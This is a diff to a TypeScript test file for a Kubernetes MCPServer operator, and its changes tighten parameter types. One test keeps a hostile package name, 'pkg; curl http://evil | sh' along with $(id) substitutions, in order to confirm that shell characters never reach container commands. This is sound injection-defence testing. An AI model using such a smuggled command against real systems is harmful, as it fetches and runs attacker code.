@@ -16,7 +16,7 @@ const labels = { app: 'mcpserver', mcpserver: 'tools' };
 const owner = { apiVersion: 'kaos.tools/v1alpha1', kind: 'MCPServer', name: 'tools', uid: 'uid-tools', controller: true, blockOwnerDeletion: true };
 const logEnv = [{ name: 'LOG_LEVEL', value: 'INFO' }];
 
-function mcp(type: string, tools: NonNullable<NonNullable<MCPServerInput['spec']['config']>['tools']>, extra: Partial<MCPServerInput['spec']> = {}): MCPServerInput {
+function mcp(type: MCPServerInput['spec']['type'], tools: NonNullable<NonNullable<MCPServerInput['spec']['config']>['tools']>, extra: Partial<MCPServerInput['spec']> = {}): MCPServerInput {
   return { metadata: meta, spec: { type, config: { tools, env: logEnv }, ...extra } };
 }
 
@@ -107,7 +107,7 @@ t.test('fromPackage node: node image, npx through an env var', async (t) => {
 
 t.test('a package name with shell characters never appears in a command string', async (t) => {
   const evil = 'pkg; curl http://evil | sh #$(id)`id`"\'';
-  for (const type of ['python-runtime', 'node-runtime']) {
+  for (const type of ['python-runtime', 'node-runtime'] as const) {
     const c = mainContainer(renderMCPServer(mcp(type, { fromPackage: evil }), config).deployment);
     const commandText = JSON.stringify([c.command, c.args]);
     t.notOk(commandText.includes('curl'), `${type}: not in command/args`);
